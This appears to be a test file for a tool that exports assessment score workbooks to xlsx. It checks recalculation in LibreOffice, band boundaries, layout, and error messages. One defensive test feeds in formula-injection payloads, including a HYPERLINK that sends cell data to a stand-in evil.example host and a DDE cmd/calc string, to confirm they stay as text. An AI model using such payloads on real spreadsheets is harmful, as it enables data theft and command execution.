// The 评分表 workbook as a certification body opens it: LibreOffice recalculates every formula (the stored
// results are stripped first) and must show the engine's score and rating on both sides of every band
// boundary; hostile titles stay text; a 10,000-leaf standard exports; unwritable targets say why.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { Lang } from '../../src/core/types';
import { renderWorkbook } from '../../src/present/formats/workbook';
import { engineFor, memFs } from '../unit/support/memFs';
import { EDGE_STANDARD, edgePack, OPTS, tenThousandLeafPack, type Case } from '../support/edgePack';
import { parseCsv } from '../../src/core/sheetImport';
import { convert, requireSoffice } from '../support/soffice';
import { DEMO, checkDisk, runCli } from './formats.test';

const CASES: Case[] = [
  { base: '79.95', score: '80.0', band: 'three-star' },
  { base: '79.94', score: '79.9', band: 'qualified' },
  { base: '89.95', score: '90.0', band: 'four-star' },
  { base: '89.94', score: '89.9', band: 'three-star' },
  { base: '69.95', score: '70.0', band: 'qualified' },
  { base: '69.94', score: '69.9', band: 'fail' },
  { base: '94.95', score: '95.0', band: 'five-star' },
  { base: '94.94', score: '94.9', band: 'four-star' },
  { base: '80.95', deductions: 1, score: '80.0', band: 'three-star' },
  { base: '78.95', bonus: true, score: '80.0', band: 'three-star' },
  { base: '94.95', deductions: 5, score: '90.0', band: 'fail' },
  { samples: [3, 1], score: '88.8', band: 'three-star' },
  { samples: [7, 0], score: '100.0', band: 'five-star' },
];

/** The workbook with every formula's stored result removed: only a recalculation can fill those cells. */
export function stripCachedResults(xlsx: Uint8Array): Uint8Array {
  const files = unzipSync(xlsx);
  for (const name of Object.keys(files)) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    const xml = strFromU8(files[name]).replace(/(<c\b[^>]*?)( t="str")?(>)(<f>[\s\S]*?<\/f>)<v>[\s\S]*?<\/v>/g, '$1$3$4');
    assert.doesNotMatch(xml, /<\/f><v>/);
    files[name] = strToU8(xml);
  }
  return zipSync(files);
}

/** The first sheet as LibreOffice shows it after recalculating, row by row. */
function recalculated(bin: string, files: string[], dir: string): Map<string, string[][]> {
  convert(bin, files, 'csv:Text - txt - csv (StarCalc):44,34,76,1', dir);
  return new Map(files.map((f) => [f, parseCsv(fs.readFileSync(path.join(dir, path.basename(f).replace(/\.xlsx$/, '.csv')), 'utf8'))]));
}

const valueOf = (rows: string[][], label: string) => rows.find((r) => r[0] === label)?.[10];

describe('xlsx workbook (评分表) in LibreOffice', function () {
  this.timeout(600_000);
  let bin: string;
  let dir: string;
  before(function () {
    bin = requireSoffice(this);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-xlsx-'));
  });
  after(() => {
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it("recalculates to the engine's score and rating on both sides of every band boundary", async () => {
    const files: string[] = [];
    const expected: { file: string; score: string; band: string; lang: Lang }[] = [];
    for (const [i, c] of CASES.entries()) {
      const lang: Lang = i % 2 ? 'en' : 'zh-CN';
      const result = await edgePack(c, lang);
      assert.equal(result.score!.score.toFixed(1), c.score, `engine score for ${JSON.stringify(c)}`);
      assert.equal(result.score!.rating.id, c.band, `engine band for ${JSON.stringify(c)}`);
      const file = path.join(dir, `edge-${i}.xlsx`);
      fs.writeFileSync(file, stripCachedResults(await renderWorkbook([result], { ...OPTS, lang })));
      files.push(file);
      expected.push({ file, score: c.score, band: result.score!.rating.label, lang });
    }
    const sheets = recalculated(bin, files, dir);
    for (const e of expected) {
      const rows = sheets.get(e.file)!;
      const zh = e.lang === 'zh-CN';
      assert.equal(valueOf(rows, zh ? '评分' : 'Score'), e.score, `${e.file}: score`);
      assert.equal(valueOf(rows, zh ? '推荐等级' : 'Recommended rating'), e.band, `${e.file}: rating`);
    }
  });

  it('keeps the formulas live: changing a sample count in the sheet changes the score', async () => {
    const result = await edgePack({ samples: [4, 1], score: '', band: '' }, 'en');
    assert.equal(result.score!.score, 91.6); // (26.6 + 13.4 × 3/4) / 40
    const xlsx = unzipSync(stripCachedResults(await renderWorkbook([result], { ...OPTS, lang: 'en' })));
    const sheet = strFromU8(xlsx['xl/worksheets/sheet1.xml']);
    // The sampled row (1.3) holds its non-conforming count in column I: 1 → 3 gives (26.6 + 13.4 / 4) / 40 = 74.875.
    const edited = sheet.replace(/(<c r="I\d+"[^>]*><v>)1(<\/v>)/, '$13$2');
    assert.notEqual(edited, sheet);
    xlsx['xl/worksheets/sheet1.xml'] = strToU8(edited);
    const file = path.join(dir, 'edited.xlsx');
    fs.writeFileSync(file, zipSync(xlsx));
    const rows = recalculated(bin, [file], dir).get(file)!;
    assert.equal(valueOf(rows, 'Score'), '74.9');
    assert.equal(valueOf(rows, 'Recommended rating'), 'Qualified');
  });

  it("writes the demo pack's sheet: every leaf, subtotals, exclusions, deductions, the provisional notice", async () => {
    for (const lang of ['zh-CN', 'en'] as Lang[]) {
      const [result] = await checkDisk(DEMO, lang);
      const file = path.join(dir, `demo-${lang}.xlsx`);
      fs.writeFileSync(file, stripCachedResults(await renderWorkbook([result], { ...OPTS, lang, baseDir: DEMO })));
      const rows = recalculated(bin, [file], dir).get(file)!;
      const zh = lang === 'zh-CN';
      assert.equal(valueOf(rows, zh ? '评分' : 'Score'), result.score!.score.toFixed(1));
      assert.equal(valueOf(rows, zh ? '推荐等级' : 'Recommended rating'), result.score!.rating.label);
      const header = rows.find((r) => r[0] === (zh ? '序号' : 'No.'))!;
      assert.deepEqual(
        header.slice(0, 12),
        zh
          ? ['序号', '一级指标', '二级指标', '条款号', '评价内容', '标准分', '评价方法', '抽样数', '不符合数', '证据', '实得分', '扣分说明']
          : [
              'No.',
              'First-level indicator',
              'Second-level indicator',
              'Clause',
              'What is assessed',
              'Points',
              'Method (evidence required)',
              'Samples',
              'Non-conforming',
              'Evidence',
              'Earned',
              'Reason for deduction',
            ],
      );
      // One row per leaf, in the standard's order.
      const leafRows = rows.filter((r) => /^\d+$/.test(r[0]));
      assert.deepEqual(
        leafRows.map((r) => r[3]),
        result.standard!.leaves.map((l) => l.id),
      );
      for (const section of result.score!.sections) {
        const sub = rows.find((r) => r[0].startsWith(`${section.id} `) && r[0].endsWith(zh ? '小计' : 'subtotal'))!;
        assert.equal(Number(sub[5]), section.applicable, `${section.id} applicable`);
        assert.equal(Number(sub[10]), section.earned, `${section.id} earned`);
      }
      const text = rows.flat().join('\n');
      assert.ok(text.includes(zh ? '暂定分值' : 'Provisional weights'), 'provisional notice');
      assert.ok(text.includes('SD-1 (5.2.5)'), 'special deduction');
      assert.ok(text.includes('5.2.6'), 'exclusion listed');
      assert.ok(text.includes(zh ? '华澜电器有限公司' : '华澜电器有限公司'));
      assert.doesNotMatch(text, /缺少有效证据：record|Missing counting evidence: record/, 'kinds are named by their labels');
    }
  });

  it('writes hostile titles, notes and names as text, never as formulas', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1,2)', '-1+1', '=1+1'];
    const fs2 = memFs({
      '/ws/p/evidence-pack.yaml':
        `pack: 1\nstandard: ./std.yaml\norganization: {name: ${JSON.stringify(hostile[4])}}\nassessment: {date: 2026-10-15}\n` +
        `special_deductions:\n  - {id: SD-1, reason: ${JSON.stringify(hostile[3])}, rectified: false}\n`,
      '/ws/p/std.yaml': EDGE_STANDARD,
      '/ws/p/a.pdf': '%PDF',
      '/ws/p/e.evidence.yaml': `clauses:
  - {clause: "1.1", status: nonconforming, notes: ${JSON.stringify(hostile[1])}, evidence: [{kind: document, title: ${JSON.stringify(hostile[0])}, file: a.pdf}]}
  - {clause: "1.2", evidence: [{kind: document, title: ${JSON.stringify(hostile[2])}, file: a.pdf}]}
  - {clause: "2.1", status: excluded, justification: ${JSON.stringify(hostile[3])}}
`,
    });
    const result = await engineFor(fs2, { lang: 'en' }).checkPack('/ws/p');
    const xlsx = await renderWorkbook([result], { ...OPTS, lang: 'en' });
    const formulas = Object.entries(unzipSync(xlsx))
      .filter(([n]) => n.startsWith('xl/worksheets/'))
      .flatMap(([, x]) => strFromU8(x).match(/<f>[\s\S]*?<\/f>/g) ?? []);
    assert.ok(formulas.length > 5);
    for (const f of formulas) assert.doesNotMatch(f, /HYPERLINK|cmd|1\+1|SUM\(1/, f);
    const file = path.join(dir, 'hostile.xlsx');
    fs.writeFileSync(file, stripCachedResults(xlsx));
    const text = recalculated(bin, [file], dir).get(file)!.flat().join('\n');
    for (const h of hostile) assert.ok(text.includes(h), `${h} shown as written`);
    assert.ok(!text.split('\n').includes('click'), 'the HYPERLINK formula was not evaluated');
  });
});

describe('xlsx workbook (without LibreOffice)', () => {
  it('exports a 10,000-leaf standard, one row per leaf', async function () {
    this.timeout(120_000);
    const result = await tenThousandLeafPack();
    assert.equal(result.standard!.leaves.length, 10_000);
    assert.equal(result.score!.score, 80);
    const xlsx = unzipSync(await renderWorkbook([result], { ...OPTS, lang: 'en' }));
    const sheet = strFromU8(xlsx['xl/worksheets/sheet1.xml']);
    assert.ok((sheet.match(/<row /g) ?? []).length > 10_100);
    assert.ok(sheet.includes('<f>ROUND(MAX(0,MIN(100,'));
  });

  it('is byte-identical for the same input', async () => {
    const result = await edgePack(CASES[0], 'zh-CN');
    const a = await renderWorkbook([result], { ...OPTS, lang: 'zh-CN' });
    await new Promise((r) => setTimeout(r, 1100));
    const b = await renderWorkbook([result], { ...OPTS, lang: 'zh-CN' });
    assert.ok(Buffer.from(a).equals(Buffer.from(b)));
  });

  it("says in the user's language when the output folder is missing or cannot be written", async () => {
    const missing = path.join(os.tmpdir(), 'ep-no-such-folder', 'x', 'report.xlsx');
    let run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'en']);
    assert.equal(run.code, 2);
    assert.match(run.err, /cannot write .*report\.xlsx: the folder .*ep-no-such-folder\/x does not exist/);
    run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'zh-CN']);
    assert.match(run.err, /无法写入 .*report\.xlsx：目录 .*不存在/);
    assert.ok(!fs.existsSync(path.dirname(missing)));
    run = await runCli(['report', 'examples/demo-pack', '--out', '/proc/report.xlsx', '--lang', 'en']);
    assert.equal(run.code, 2);
    assert.match(run.err, /cannot write \/proc\/report\.xlsx: /);
    run = await runCli(['report', 'examples/demo-pack', '--out', 'report.pdf', '--lang', 'en']);
    assert.equal(run.code, 2);
    assert.match(run.err, /html, xlsx, docx, csv/);
  });
});
